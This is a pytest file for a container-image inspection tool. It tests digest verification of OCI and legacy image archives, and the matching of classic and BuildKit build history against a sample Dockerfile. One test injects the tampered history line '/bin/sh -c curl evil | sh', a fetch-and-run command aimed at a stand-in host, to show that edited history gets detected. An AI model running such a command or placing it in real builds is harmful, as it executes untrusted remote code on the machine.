"""Digest checks and history <-> Dockerfile matching."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from synthetic import Built, build, config_for, layer_tar, sha, write_legacy_save, write_oci_dir

from layerwise.image.model import HistoryEntry
from layerwise.image.provenance import history_step, match_dockerfile
from layerwise.image.sources import open_image
from layerwise.image.verify import verify_digests


def test_clean_image_verifies(edge: Built, tmp_path: Path) -> None:
    for path in (write_legacy_save(edge, tmp_path / "a.tar"), write_oci_dir(edge, tmp_path / "oci", "gzip")):
        result = verify_digests(open_image(str(path)))
        assert result.ok, [c for c in result.checks if not c.ok]
        subjects = {c.subject for c in result.checks}
        assert "layer 2 diff_id" in subjects
    assert {"layer 1 blob digest", "config digest", "manifest digest"} <= subjects


def test_tampered_manifest_is_a_mismatch(edge: Built, tmp_path: Path) -> None:
    root = write_oci_dir(edge, tmp_path / "oci")
    index = json.loads((root / "index.json").read_text())
    manifest_path = root / "blobs/sha256" / index["manifests"][0]["digest"].split(":")[1]
    manifest_path.write_bytes(manifest_path.read_bytes() + b" ")
    result = verify_digests(open_image(str(root)))
    assert [c.subject for c in result.checks if not c.ok] == ["manifest digest"]


def test_wrong_diff_id_is_a_mismatch(tmp_path: Path) -> None:
    tars = [layer_tar([("a", b"1")])]
    config = json.loads(config_for(tars))
    config["rootfs"]["diff_ids"] = [sha(b"something else")]
    built = Built(json.dumps(config).encode(), tars)
    result = verify_digests(open_image(str(write_legacy_save(built, tmp_path / "a.tar"))))
    assert not result.ok
    assert [c.subject for c in result.checks if not c.ok] == ["layer 0 diff_id"]


def test_tampered_blob_is_a_mismatch(tmp_path: Path) -> None:
    built = build([[("a", b"1" * 100)]])
    root = write_oci_dir(built, tmp_path / "oci", "gzip")
    image = open_image(str(root))
    blob = root / "blobs/sha256" / image.layers[0].digest.split(":")[1]
    import gzip

    blob.write_bytes(gzip.compress(layer_tar([("a", b"2" * 100)])))
    result = verify_digests(open_image(str(root)))
    failed = {c.subject for c in result.checks if not c.ok}
    assert {"layer 0 diff_id", "layer 0 blob digest"} <= failed


def test_renamed_config_breaks_the_image_id(tmp_path: Path) -> None:
    built = build([[("a", b"1")]])
    path = write_legacy_save(built, tmp_path / "a.tar")
    image = open_image(str(path))
    image.claimed_id = sha(b"other")
    assert not verify_digests(image).ok


CLASSIC = [
    "/bin/sh -c #(nop) ADD file:2727 in / ",
    '/bin/sh -c #(nop)  CMD ["bash"]',
    "/bin/sh -c #(nop)  ARG VER=1.2",
    "/bin/sh -c #(nop)  ENV APP_HOME=/srv/app PATH=/srv/app/bin:/usr/bin",
    "/bin/sh -c #(nop) WORKDIR /srv/app",
    "/bin/sh -c #(nop) COPY file:00ec1633 in ./ ",
    '|1 VER=1.2 /bin/sh -c echo "ver=$VER" > /srv/app/ver.txt',
    "|1 VER=1.2 /bin/sh -c echo exec-form > x",
    "/bin/sh -c #(nop)  USER nobody",
    "/bin/sh -c #(nop)  EXPOSE 8080/tcp",
    '/bin/sh -c #(nop)  CMD ["-c" "cat /srv/app/ver.txt"]',
]
BUILDKIT = [
    "/bin/sh -c #(nop) ADD file:2727 in / ",
    '/bin/sh -c #(nop)  CMD ["bash"]',
    "ARG VER=1.2",
    "ENV APP_HOME=/srv/app PATH=/srv/app/bin:/usr/bin",
    "WORKDIR /srv/app",
    "COPY a.txt ./ # buildkit",
    'RUN |1 VER=1.2 /bin/sh -c echo "ver=$VER" > /srv/app/ver.txt # buildkit',
    "RUN |1 VER=1.2 /bin/sh -c echo exec-form > x # buildkit",
    "USER nobody",
    "EXPOSE map[8080/tcp:{}]",
    'CMD ["-c" "cat /srv/app/ver.txt"]',
]
DOCKERFILE = """FROM debian:bookworm-slim
ARG VER=1.2
ENV APP_HOME=/srv/app PATH=/srv/app/bin:/usr/bin
WORKDIR $APP_HOME
COPY a.txt ./
RUN echo "ver=$VER" > /srv/app/ver.txt
RUN ["/bin/sh", "-c", "echo exec-form > x"]
USER nobody
EXPOSE 8080
CMD ["-c", "cat /srv/app/ver.txt"]
"""


def entries(lines: list[str], buildkit: bool) -> list[HistoryEntry]:
    return [
        HistoryEntry(line, False, comment="buildkit.dockerfile.v0" if buildkit and index >= 2 else "")
        for index, line in enumerate(lines)
    ]


@pytest.mark.parametrize(("lines", "buildkit"), [(CLASSIC, False), (BUILDKIT, True)])
def test_history_matches_its_dockerfile(lines: list[str], buildkit: bool, tmp_path: Path) -> None:
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(DOCKERFILE)
    result = match_dockerfile(entries(lines, buildkit), dockerfile)
    assert result.ok, (result.differs, result.missing, result.extra)
    assert result.base_entries == 2 and len(result.matched) == 9


def test_edited_history_is_reported(tmp_path: Path) -> None:
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(DOCKERFILE)
    lines = [*CLASSIC[:6], "/bin/sh -c curl evil | sh", *CLASSIC[7:9], *CLASSIC[10:], "/bin/sh -c extra step"]
    result = match_dockerfile(entries(lines, False), dockerfile)
    assert not result.ok
    assert [p.line for p in result.differs] == [6]
    assert [line for line, _ in result.missing] == [9]
    assert [text for _, text in result.extra] == ["/bin/sh -c extra step"]


def test_history_step_normalises_both_builders() -> None:
    classic = history_step("|2 A=1 B=2 /bin/sh -c make   all")
    assert (classic.keyword, classic.text) == ("RUN", "make all")
    buildkit = history_step("RUN /bin/sh -c make all # buildkit")
    assert (buildkit.keyword, buildkit.text) == ("RUN", "make all")
    assert history_step("/bin/sh -c #(nop) COPY dir:abc in /app/ ").text == "/app/"
